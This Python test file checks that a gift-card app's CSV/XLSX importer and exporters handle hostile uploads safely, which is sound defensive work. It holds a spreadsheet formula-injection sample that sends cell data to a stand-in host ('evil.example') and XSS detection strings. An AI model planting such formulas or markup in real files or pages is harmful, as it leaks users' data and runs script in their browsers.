"""Every file of the hostile-input corpus (tests/hostile/corpus.py), uploaded by a Sender
through the admin and passed to `send_csv`: the message names the problem, nothing is
created or bought, and nothing secret or internal comes back."""

from __future__ import annotations

import time

import pytest

from tests.commands import send_csv
from tests.fixtures.data import GLOBAL_GIFT_CARD_SKU
from tests.hostile.checks import assert_nothing_created, assert_nothing_secret, page_text
from orders.models import Recipient
from tests.hostile.corpus import ACCEPTED, CASES, FILES, NO_VALID_ROWS, REFUSED, Case
from tests.hostile.exports import admin_export, command_export, csv_cells, xlsx_cells
from tests.hostile.upload import confirm, upload

PARAMS = [pytest.param(case, channel, id=f"{channel}-{case.id}") for case in CASES for channel in case.channels]
RAW_MARKUP = ("<script>alert(", "<img src=x onerror")


@pytest.mark.parametrize(("case", "channel"), PARAMS)
def test_a_hostile_file_is_answered_and_creates_nothing(case: Case, channel, sender, hostile_account,
                                                         hostile_emulator, hostile_secrets, tmp_path, settings):
    for name, value in case.settings.items():
        setattr(settings, name, value)
    content = case.content()
    if channel == "admin":
        response = upload(sender, hostile_account, case.filename, content)
        elapsed = response.seconds
        assert response.status_code == 200
        raw, text = response.content.decode(), page_text(response)
        assert_admin_outcome(case, raw, text)
        for markup in RAW_MARKUP:
            assert markup not in raw, "markup from the file was put in the page unescaped"
    else:
        path = tmp_path / case.filename
        path.write_bytes(content)
        options = ["--dry-run"] if case.outcome == ACCEPTED else []
        started = time.monotonic()
        code, text = send_csv(path, "--account", hostile_account.name, "--product", GLOBAL_GIFT_CARD_SKU, *options)
        elapsed = time.monotonic() - started
        assert code == case.cli_exit, text
        if code == 2:
            assert text.startswith("Refused: "), text
    for words in case.expected(channel):
        assert words in text, f"{words!r} not in the answer"
    for words in case.never:
        assert words not in text
    if case.max_seconds is not None:
        assert elapsed < case.max_seconds, f"answered in {elapsed:.2f} s"
    assert_nothing_created(hostile_emulator)
    assert_nothing_secret(text, hostile_secrets)


def assert_admin_outcome(case: Case, raw: str, text: str) -> None:
    if case.outcome == REFUSED:
        assert "confirm-import" not in raw and 'name="import_file"' in raw  # the upload form again
    elif case.outcome == NO_VALID_ROWS:
        assert "No row of this file is valid" in text and "confirm-import" not in raw
    else:
        assert 'id="confirm-import"' in raw


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_formula_looking_values_are_kept_as_data_and_escaped_in_every_export(sender, admin_client, hostile_account,
                                                                             tmp_path):
    preview = upload(sender, hostile_account, "formulas.csv", (FILES / "formulas.csv").read_bytes())
    assert confirm(sender, preview).status_code == 302
    names = set(Recipient.objects.values_list("name", flat=True))
    assert names == {'=HYPERLINK("http://evil.example/?"&A1,"Click")', "+45 Ana", "-Bo", "@SUM(A1)"}

    for data in (admin_export(admin_client, "CSV"), command_export("csv", tmp_path)):
        cells = csv_cells(data)
        assert "'+45 Ana" in cells and "'@SUM(A1)" in cells
        assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    for data in (admin_export(admin_client, "XLSX"), command_export("xlsx", tmp_path)):
        cells = xlsx_cells(data)
        assert [value for kind, value in cells if kind == "f"] == [], "the export holds live formulas"
        texts = [value for kind, value in cells if isinstance(value, str)]
        assert "'-Bo" in texts and [text for text in texts if text.startswith(FORMULA_STARTS)] == []
